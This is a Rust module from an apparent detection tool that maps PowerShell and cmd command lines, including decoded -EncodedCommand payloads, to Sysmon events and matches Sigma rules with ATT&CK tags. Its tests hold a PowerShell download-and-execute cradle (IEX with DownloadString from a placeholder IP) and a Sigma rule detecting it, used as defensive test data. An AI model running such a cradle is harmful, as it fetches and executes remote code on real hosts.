//! Sigma process-creation rules over a payload: the command line as submitted and its
//! decoded form are each turned into the process-creation event a Windows host would log
//! for it (Sysmon event 1: `Image`, `OriginalFileName`, `CommandLine`), and the rules that
//! match join the verdict's patterns with their ATT&CK techniques. Running the rules on the
//! decoded form is the point: a rule written for `DownloadString` never sees it inside
//! `-EncodedCommand`.
//!
//! Only cmd and PowerShell texts become events (the rules' `product: windows`); Linux
//! process-creation rules need the auditd mapping first.

use std::borrow::Cow;
use std::cell::RefCell;
use std::sync::Arc;

use serde_json::{Value, json};
use warden_payload::{Analysed, PatternFound, PatternSource, Shell};
use warden_sigma::{Level, RuleSet, Scratch};

/// The rules, and how much a match of each level weighs in the signature view.
pub struct PayloadRules {
    set: Arc<RuleSet>,
    /// Only the decoded form is matched: where the rules already ran on the event itself
    /// (a hunt), the original's matches are reported there.
    decoded_only: bool,
}

thread_local! {
    static SCRATCH: RefCell<(Scratch, Vec<u32>)> = RefCell::new((Scratch::default(), Vec::new()));
}

impl PayloadRules {
    /// The rules of `set` (shared: the service's log-event pipelines use the same set).
    pub fn new(set: impl Into<Arc<RuleSet>>) -> PayloadRules {
        PayloadRules {
            set: set.into(),
            decoded_only: false,
        }
    }

    /// The rules of `set` over the decoded form alone (nothing for a text that decodes to
    /// nothing): for a hunt, which matches them on each event as it was logged.
    pub fn on_decoded(set: impl Into<Arc<RuleSet>>) -> PayloadRules {
        PayloadRules {
            set: set.into(),
            decoded_only: true,
        }
    }

    /// Rules loaded (all categories; only process-creation ones can match).
    pub fn rules(&self) -> usize {
        self.set.detection_rules()
    }

    fn matches(&self, doc: &Value) -> Vec<u32> {
        SCRATCH.with(|s| {
            let (scratch, hits) = &mut *s.borrow_mut();
            let ev = self.set.event(doc);
            self.set.matches(&ev, scratch, hits);
            hits.clone()
        })
    }
}

/// Where a command line comes from, which decides where the rules run on it.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum RulesOn {
    /// A text submitted on its own (`warden analyze`, `POST /v1/payload/analyze`, jobs):
    /// nothing else matched it, so the rules run on it as written and on its decoded form.
    Submitted,
    /// A process event whose rule stage already matched it as logged (a hunt, a worker,
    /// the service's pipeline): the rules run on the decoded form only, so one match is
    /// one alert and no rule is judged on a made-up event in place of the real one.
    Events,
}

/// The analyser for command lines of `origin`, with `rules` (when any) beside the
/// signatures and `model`.
pub fn analyzer(
    model: Option<Arc<warden_payload::model::PayloadModel>>,
    config: warden_payload::VerdictConfig,
    rules: Option<&Arc<RuleSet>>,
    origin: RulesOn,
) -> warden_payload::Analyzer {
    let a = warden_payload::Analyzer::new(model, config);
    match (rules, origin) {
        (None, _) => a,
        (Some(set), RulesOn::Submitted) => a.with_source(Arc::new(PayloadRules::new(set.clone()))),
        (Some(set), RulesOn::Events) => {
            a.with_source(Arc::new(PayloadRules::on_decoded(set.clone())))
        }
    }
}

/// A level's weight: how strongly one rule match alone points at an attack.
fn weight(level: Level) -> f32 {
    match level {
        Level::Critical => 0.9,
        Level::High => 0.75,
        Level::Medium => 0.5,
        Level::Low => 0.25,
        Level::Informational => 0.1,
    }
}

/// The process-creation event of a command line: the program it starts and the line.
pub fn process_event(text: &str, shell: Shell, exe: Option<&str>) -> Option<Value> {
    let (image, line) = match shell {
        Shell::Powershell => {
            let ps = r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe";
            let lower = text.trim_start().to_ascii_lowercase();
            if lower.starts_with("powershell") || lower.starts_with("pwsh") {
                (ps.to_string(), text.to_string())
            } else {
                (ps.to_string(), format!("powershell.exe -Command {text}"))
            }
        }
        Shell::Cmd => {
            let exe = exe.filter(|e| !e.is_empty() && !e.contains(['\\', '/', ':']))?;
            (format!(r"C:\Windows\System32\{exe}.exe"), text.to_string())
        }
        Shell::Sh | Shell::Bash => return None,
    };
    let file = image.rsplit('\\').next().unwrap_or("").to_string();
    Some(json!({
        "Channel": "Microsoft-Windows-Sysmon/Operational",
        "EventID": 1,
        "Image": image,
        "OriginalFileName": file,
        "CommandLine": line,
        "ParentImage": r"C:\Windows\explorer.exe",
    }))
}

impl PatternSource for PayloadRules {
    fn patterns(&self, a: &Analysed) -> Vec<PatternFound> {
        let last = a.decoded.layers.len().saturating_sub(1);
        let mut seen: Vec<u32> = Vec::new();
        let mut out = Vec::new();
        for (layer, shell) in [(0, a.shell), (last, a.decoded.shell.unwrap_or(a.shell))] {
            if layer == last && layer == 0 && !out.is_empty() {
                break;
            }
            if layer == 0 && self.decoded_only {
                continue;
            }
            let Some(l) = a.decoded.layers.get(layer) else {
                continue;
            };
            let exe: Option<String> = if layer == last {
                a.tokens.commands.first().map(|c| c.exe.clone())
            } else {
                None
            };
            let exe = exe.or_else(|| first_word(&l.text));
            let Some(doc) = process_event(&l.text, shell, exe.as_deref()) else {
                continue;
            };
            for r in self.matches(&doc) {
                if seen.contains(&r) {
                    continue;
                }
                seen.push(r);
                let Some(info) = self.set.rule(r) else {
                    continue;
                };
                let m = &info.meta;
                let attack: Vec<Cow<'static, str>> = warden_event::attack_from_tags(&m.tags)
                    .into_iter()
                    .filter(|t| {
                        t.starts_with('T') && t[1..].starts_with(|c: char| c.is_ascii_digit())
                    })
                    .map(Cow::Owned)
                    .collect();
                out.push(PatternFound {
                    id: format!("sigma:{}", m.id.as_deref().unwrap_or(&m.title)),
                    name: format!("Sigma: {}", m.title),
                    attack,
                    weight: weight(m.level),
                    evidence: m
                        .file
                        .as_ref()
                        .and_then(|f| f.file_name())
                        .map_or_else(|| m.title.clone(), |f| f.to_string_lossy().into_owned()),
                    layer,
                    trained: None,
                });
            }
            if last == 0 {
                break;
            }
        }
        out
    }
}

fn first_word(text: &str) -> Option<String> {
    let w = text.split_whitespace().next()?;
    Some(warden_payload::tokens::program_name(
        &w.to_ascii_lowercase(),
    ))
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::sync::Arc;
    use warden_payload::VerdictConfig;
    use warden_sigma::{Mapping, RuleSetBuilder};

    const RULE: &str = r"
title: PowerShell download cradle
id: 00000000-0000-0000-0000-00000000c0de
status: test
logsource:
  category: process_creation
  product: windows
detection:
  selection:
    Image|endswith: '\powershell.exe'
    CommandLine|contains: 'DownloadString'
  condition: selection
level: high
tags:
  - attack.execution
  - attack.t1059.001
";

    fn rule_set() -> Arc<RuleSet> {
        let mut b = RuleSetBuilder::new(Mapping::builtin());
        b.add_text(RULE, None);
        let set = b.build();
        assert_eq!(
            set.detection_rules(),
            1,
            "{:?}",
            set.skipped()
                .iter()
                .map(|s| s.error.to_string())
                .collect::<Vec<_>>()
        );
        Arc::new(set)
    }

    #[test]
    fn a_rule_sees_the_decoded_command_the_original_hides() {
        let a = analyzer(
            None,
            VerdictConfig::default(),
            Some(&rule_set()),
            RulesOn::Submitted,
        );
        let script = "IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.1/a')";
        let text = format!(
            "powershell -enc {}",
            warden_payload::deobf::codec::encoded_command(script)
        );
        let v = a.analyze(&text, None);
        let hit = v
            .patterns
            .iter()
            .find(|p| p.id.starts_with("sigma:"))
            .expect("the rule matched");
        assert_eq!(hit.layer, 1, "found on the decoded layer, not the original");
        assert!(hit.attack.iter().any(|t| t == "T1059.001"));
        assert!(v.attack.iter().any(|t| t == "T1059.001"));
        // A clean command does not match.
        let v = a.analyze("Get-ChildItem C:\\Users", Some(Shell::Powershell));
        assert!(!v.patterns.iter().any(|p| p.id.starts_with("sigma:")));
    }

    #[test]
    fn on_decoded_the_original_is_left_to_whoever_matched_the_event() {
        let a = analyzer(
            None,
            VerdictConfig::default(),
            Some(&rule_set()),
            RulesOn::Events,
        );
        let script = "IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.1/a')";
        let sigma = |text: &str| -> Vec<usize> {
            a.analyze(text, Some(Shell::Powershell))
                .patterns
                .iter()
                .filter(|p| p.id.starts_with("sigma:"))
                .map(|p| p.layer)
                .collect()
        };
        // In clear, the event's own match is the hunt's to report.
        assert_eq!(
            sigma(&format!("powershell -c \"{script}\"")),
            Vec::<usize>::new()
        );
        // Encoded, the rule sees what the event hid.
        let text = format!(
            "powershell -enc {}",
            warden_payload::deobf::codec::encoded_command(script)
        );
        assert_eq!(sigma(&text), vec![1]);
    }

    #[test]
    fn only_windows_shells_become_process_events() {
        assert!(process_event("ls -la", Shell::Sh, Some("ls")).is_none());
        let e = process_event("whoami /all", Shell::Cmd, Some("whoami")).unwrap();
        assert_eq!(e["Image"], r"C:\Windows\System32\whoami.exe");
        let e = process_event("Get-Process", Shell::Powershell, None).unwrap();
        assert_eq!(e["CommandLine"], "powershell.exe -Command Get-Process");
    }
}
